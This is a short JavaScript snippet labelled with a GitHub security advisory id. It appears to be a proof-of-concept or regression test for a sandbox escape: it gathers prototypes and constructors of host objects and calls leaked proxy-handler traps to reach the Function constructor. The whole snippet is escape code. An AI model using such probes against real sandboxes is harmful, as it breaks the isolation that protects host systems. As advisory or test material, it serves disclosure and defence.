// GHSA-qcp4-v2jj-fjx8
// A trap of a leaked handler runs with a forged target.
const traps = [];
for (const object of [console, codemode, globalThis.Buffer]) { try { traps.push(Object.getPrototypeOf(object), object.constructor); } catch {} }
for (const handler of traps) { for (const name of ['get', 'getPrototypeOf', 'apply']) { try { await useObject(handler[name](Function, 'constructor')); } catch {} } }
return found;
